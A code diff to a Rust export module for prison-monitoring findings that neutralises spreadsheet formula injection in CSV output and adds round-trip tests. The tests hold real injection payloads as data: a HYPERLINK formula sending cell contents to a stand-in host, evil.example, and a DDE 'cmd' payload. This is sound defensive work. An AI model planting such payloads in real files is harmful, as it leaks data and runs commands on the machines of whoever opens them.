@@ -1,5 +1,6 @@
 //! Visits, findings and recommendations as flat tables, for spreadsheets and analysis:
-//! CSV (one file per table, quoting by the `csv` crate) and JSON (all three tables).
+//! CSV (one file per table, quoting by the `csv` crate; a cell that would run as a
+//! spreadsheet formula neutralised) and JSON (all three tables, as they are).
 //!
 //! Interviews are never exported. Findings marked confidential are left out unless the
 //! caller asks for an internal export ([`Audience::Internal`]).
@@ -155,21 +156,56 @@ impl Tables {
     }
 }
 
-/// One table as CSV, a header row first.
+/// One table as CSV, a header row first. A cell a spreadsheet would run as a formula gets
+/// a leading `'` (see [`runs_as_formula`]): opening an export must never run what a person
+/// (or a stolen device) typed into a finding.
 pub fn to_csv<T: Serialize>(rows: &[T]) -> Result<String, ReportError> {
-    let mut writer = csv::Writer::from_writer(Vec::new());
+    let mut plain = csv::Writer::from_writer(Vec::new());
     for row in rows {
-        writer.serialize(row)?;
+        plain.serialize(row)?;
+    }
+    let plain = plain.into_inner().map_err(|err| csv::Error::from(err.into_error()))?;
+    let mut writer = csv::Writer::from_writer(Vec::new());
+    for record in csv::ReaderBuilder::new().has_headers(false).from_reader(&plain[..]).records() {
+        writer.write_record(record?.iter().map(|cell| match runs_as_formula(cell.trim_start_matches('\'')) {
+            true => format!("'{cell}"),
+            false => cell.to_owned(),
+        }))?;
     }
     let bytes = writer.into_inner().map_err(|err| csv::Error::from(err.into_error()))?;
     // The writer is given only strings, so its output is UTF-8.
     Ok(String::from_utf8_lossy(&bytes).into_owned())
 }
 
-/// Reads back a table written by [`to_csv`].
+/// Reads back a table written by [`to_csv`], without the quotes it added. A cell that
+/// began with quotes before a formula had one more added, so it reads back as it was.
 pub fn from_csv<T: for<'de> Deserialize<'de>>(text: &str) -> Result<Vec<T>, ReportError> {
     let mut reader = csv::Reader::from_reader(text.as_bytes());
-    Ok(reader.deserialize().collect::<Result<Vec<T>, csv::Error>>()?)
+    let headers = reader.headers()?.clone();
+    let records = reader.records().map(|record| {
+        let cells: csv::StringRecord = record?
+            .iter()
+            .map(|cell| match cell.strip_prefix('\'') {
+                Some(rest) if runs_as_formula(rest.trim_start_matches('\'')) => rest,
+                _ => cell,
+            })
+            .collect();
+        cells.deserialize(Some(&headers))
+    });
+    Ok(records.collect::<Result<Vec<T>, csv::Error>>()?)
+}
+
+/// A cell a spreadsheet would take for a formula (the OWASP list: `=`, `+`, `-`, `@`, tab,
+/// carriage return first). A plain number (sign, digits, a decimal part) is not: it is read
+/// as that number and stays one, in our numeric columns as in a person's text.
+fn runs_as_formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_number(cell)
+}
+
+fn is_plain_number(cell: &str) -> bool {
+    let unsigned = cell.strip_prefix(['+', '-']).unwrap_or(cell);
+    let (whole, fraction) = unsigned.split_once('.').unwrap_or((unsigned, "0"));
+    !whole.is_empty() && !fraction.is_empty() && whole.chars().chain(fraction.chars()).all(|c| c.is_ascii_digit())
 }
 
 #[cfg(test)]
@@ -199,5 +235,46 @@ mod tests {
         assert_eq!(field("text"), Some(awkward));
         assert_eq!(field("severity"), Some("high"));
         assert_eq!(field("place"), Some("Prison No. 4, \"North\" wing"));
+    }
+
+    fn finding(text: &str) -> FindingRow {
+        FindingRow {
+            finding_id: Uuid::now_v7(),
+            visit_id: Uuid::now_v7(),
+            place: "Prison No. 4".into(),
+            area: Area::MaterialConditions,
+            severity: Severity::High,
+            confidential: false,
+            text: text.into(),
+        }
+    }
+
+    /// The cells of the `text` column, as any CSV reader (and a spreadsheet) gets them.
+    fn text_cells(csv_text: &str) -> Vec<String> {
+        let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
+        let column = reader.headers().expect("headers").iter().position(|h| h == "text").expect("text column");
+        reader.records().map(|record| record.expect("row")[column].to_owned()).collect()
+    }
+
+    #[test]
+    fn a_cell_that_would_run_as_a_formula_is_neutralised_and_reads_back_as_written() {
+        let planted = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Open the report\")";
+        let texts = [planted, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "'=1", "''-x"];
+        let rows: Vec<FindingRow> = texts.iter().map(|text| finding(text)).collect();
+        let written = to_csv(&rows).expect("csv");
+        let expected: Vec<String> = texts.iter().map(|text| format!("'{text}")).collect();
+        assert_eq!(text_cells(&written), expected);
+        assert_eq!(from_csv::<FindingRow>(&written).expect("read back"), rows);
+    }
+
+    #[test]
+    fn numbers_and_ordinary_text_are_left_as_they_are() {
+        let texts = ["-5", "+12.5", "3", "Cell 3 = cold", "a-b", "-", "'quoted", "-1e5"];
+        let rows: Vec<FindingRow> = texts.iter().map(|text| finding(text)).collect();
+        let written = to_csv(&rows).expect("csv");
+        // A lone dash and a number in another notation are text a spreadsheet could run.
+        let expected = ["-5", "+12.5", "3", "Cell 3 = cold", "a-b", "'-", "'quoted", "'-1e5"];
+        assert_eq!(text_cells(&written), expected);
+        assert_eq!(from_csv::<FindingRow>(&written).expect("read back"), rows);
     }
 }
